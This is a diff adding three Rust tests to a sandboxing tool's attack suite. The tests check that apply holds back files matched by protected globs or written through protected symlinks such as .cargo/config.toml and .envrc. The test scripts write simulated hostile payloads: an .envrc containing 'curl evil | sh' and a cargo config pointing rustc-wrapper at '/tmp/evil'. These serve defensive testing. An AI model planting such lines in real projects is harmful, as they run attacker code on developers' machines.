@@ -530,3 +530,169 @@ fn discard_all_goes_on_past_a_change_set_it_cannot_remove() {
     fx.stockade(["discard", &ids[1]]).run().assert_success();
     assert!(!store(&fx).join(&ids[1]).exists());
 }
+
+/// A `--protect` glob the creation guard cannot express (`a/**/b.sh`, `sweep_only` in
+/// `policy show --json`) is checked by a direct run's sweep only. Under `--review` nothing
+/// sweeps the view: the change set records the glob and flags what it matches, or lies below
+/// a match, `protected`; `apply` holds them and writes the plain file beside. Controls: a
+/// direct run's sweep quarantines the same file; accepted by name, the apply writes it.
+#[test]
+fn a_sweep_only_glob_made_in_a_view_is_held_by_apply() {
+    if attacks::not_under("gvisor", attacks::na::NO_REVIEW) {
+        return;
+    }
+    let fx = Fixture::without_git();
+    let protect = ["--protect", "a/**/b.sh"];
+    let script = "mkdir -p a/x a/y/b.sh && echo 'echo pwned' > a/x/b.sh && \
+                  echo 'echo pwned' > a/y/b.sh/inner.sh && echo plain > plain.txt";
+
+    // Control: a direct run's sweep takes a/x/b.sh out of the workspace.
+    let direct = fx.sandbox(&protect, script).run();
+    direct.assert_stderr_contains("a/x/b.sh");
+    assert!(!fx.ws.join("a/x/b.sh").exists(), "{}", direct.describe());
+    let _ = std::fs::remove_dir_all(fx.ws.join("a"));
+    let _ = std::fs::remove_dir_all(fx.ws.join(".stockade"));
+    let _ = std::fs::remove_file(fx.ws.join("plain.txt"));
+
+    let (run, id) = review(&fx, &protect, script);
+    run.assert_success();
+    let id = id.expect("a pending change set");
+    let listed = attacks::review::entries(&fx, &id);
+    for path in ["a/x/b.sh", "a/y/b.sh", "a/y/b.sh/inner.sh"] {
+        let e = listed
+            .iter()
+            .find(|e| e["path"] == path)
+            .unwrap_or_else(|| panic!("{path} not listed: {listed:?}"));
+        assert!(
+            attacks::review::codes(e).contains(&"protected".to_string()),
+            "{path}: {e}"
+        );
+    }
+    let plain = listed
+        .iter()
+        .find(|e| e["path"] == "plain.txt")
+        .expect("plain.txt");
+    assert!(attacks::review::codes(plain).is_empty(), "{plain}");
+
+    let partly = fx.stockade(["apply", &id]).run();
+    partly
+        .assert_code(APPLIED_PARTLY)
+        .assert_stdout_contains("written  plain.txt")
+        .assert_stdout_contains("pending  a/x/b.sh")
+        .assert_stdout_contains("creation guard cannot express");
+    assert!(!fx.ws.join("a/x/b.sh").exists(), "{}", partly.describe());
+    assert!(!fx.ws.join("a/y/b.sh/inner.sh").exists());
+    assert!(fx.ws.join("plain.txt").exists());
+
+    // Control: accepted by name, the apply writes it (the flag is what held it).
+    fx.stockade(["apply", &id, "--accept", "a/x/b.sh"])
+        .run()
+        .assert_code(APPLIED_PARTLY)
+        .assert_stdout_contains("written  a/x/b.sh");
+    assert!(
+        fx.ws.join("a/x/b.sh").exists(),
+        "control: a/x/b.sh not written"
+    );
+}
+
+/// A protected path that is a dangling link on the host (`.cargo/config.toml ->
+/// ../cfg.toml`, `.envrc -> envrc.real`): a review run writes the links' targets. The change
+/// set records where each protected link leads and flags what is made there `protected`;
+/// `apply` holds both, and the host's `.cargo/config.toml` still leads nowhere. Controls: a
+/// direct run's sweep quarantines the links ("a protected link was replaced"); accepted by
+/// name, the apply writes `cfg.toml` and the host's cargo config reads the run's content.
+#[test]
+fn a_dangling_protected_link_gets_no_target_through_apply() {
+    if attacks::not_under("gvisor", attacks::na::NO_REVIEW) {
+        return;
+    }
+    let fx = Fixture::without_git();
+    let links = || {
+        let _ = std::fs::remove_dir_all(fx.ws.join(".cargo"));
+        let _ = std::fs::remove_dir_all(fx.ws.join(".stockade"));
+        for f in ["cfg.toml", "envrc.real", ".envrc", "plain.txt"] {
+            let _ = std::fs::remove_file(fx.ws.join(f));
+        }
+        std::fs::create_dir(fx.ws.join(".cargo")).expect("mkdir .cargo");
+        std::os::unix::fs::symlink("../cfg.toml", fx.ws.join(".cargo/config.toml")).expect("link");
+        std::os::unix::fs::symlink("envrc.real", fx.ws.join(".envrc")).expect("link");
+    };
+    let script = "printf '[build]\\nrustc-wrapper = \"/tmp/evil\"\\n' > cfg.toml && \
+                  echo 'curl evil | sh' > envrc.real && echo plain > plain.txt";
+    let cargo_config = fx.ws.join(".cargo/config.toml");
+    let reads_evil =
+        || std::fs::read_to_string(&cargo_config).is_ok_and(|s| s.contains("rustc-wrapper"));
+
+    // Control: a direct run's sweep takes the links out.
+    links();
+    let direct = fx.sandbox(&[], script).run();
+    direct.assert_stderr_contains("a protected link was replaced");
+    assert!(!reads_evil(), "{}", direct.describe());
+
+    links();
+    let (run, id) = review(&fx, &[], script);
+    run.assert_success();
+    let id = id.expect("a pending change set");
+    let partly = fx.stockade(["apply", &id]).run();
+    partly
+        .assert_code(APPLIED_PARTLY)
+        .assert_stdout_contains("written  plain.txt")
+        .assert_stdout_contains("pending  cfg.toml")
+        .assert_stdout_contains("pending  envrc.real")
+        .assert_stdout_contains("protected link");
+    assert!(!fx.ws.join("cfg.toml").exists(), "{}", partly.describe());
+    assert!(!fx.ws.join("envrc.real").exists());
+    assert!(!reads_evil());
+
+    // Control: accepted by name, the host's cargo config reads what the run wrote.
+    fx.stockade(["apply", &id, "--accept", "cfg.toml"])
+        .run()
+        .assert_code(APPLIED_PARTLY)
+        .assert_stdout_contains("written  cfg.toml");
+    assert!(
+        reads_evil(),
+        "control: .cargo/config.toml does not read cfg.toml"
+    );
+}
+
+/// The host makes a protected link after the review run, before `apply`
+/// (`.cargo/config.toml -> ../cfg.toml`): the run saw none, so the change set's record flags
+/// nothing, but `apply` checks the workspace's protected links as they are then and holds
+/// `cfg.toml`. Control: a second, identical change set applied with no such link writes it.
+#[test]
+fn a_protected_link_made_after_the_run_holds_its_target_at_apply() {
+    if attacks::not_under("gvisor", attacks::na::NO_REVIEW) {
+        return;
+    }
+    let fx = Fixture::without_git();
+    let script = "printf '[build]\\nrustc-wrapper = \"/tmp/evil\"\\n' > cfg.toml";
+    let (run, a) = review(&fx, &[], script);
+    run.assert_success();
+    let a = a.expect("change set A");
+    let (run, b) = review(&fx, &[], script);
+    run.assert_success();
+    let b = b.expect("change set B");
+    let listed = attacks::review::entries(&fx, &a);
+    assert!(
+        listed.iter().all(|e| attacks::review::codes(e).is_empty()),
+        "no link at the run: nothing flagged {listed:?}"
+    );
+
+    std::fs::create_dir(fx.ws.join(".cargo")).expect("mkdir .cargo");
+    let link = fx.ws.join(".cargo/config.toml");
+    std::os::unix::fs::symlink("../cfg.toml", &link).expect("link");
+    let refused = fx.stockade(["apply", &a]).run();
+    refused
+        .assert_code(125)
+        .assert_stderr_contains("E_CHANGES_FLAGGED")
+        .assert_stderr_contains("cfg.toml");
+    assert!(!fx.ws.join("cfg.toml").exists(), "{}", refused.describe());
+
+    // Control: without the link, the same change set is written.
+    std::fs::remove_file(&link).expect("rm link");
+    fx.stockade(["apply", &b]).run().assert_success();
+    assert!(
+        fx.ws.join("cfg.toml").exists(),
+        "control: cfg.toml not written"
+    );
+}
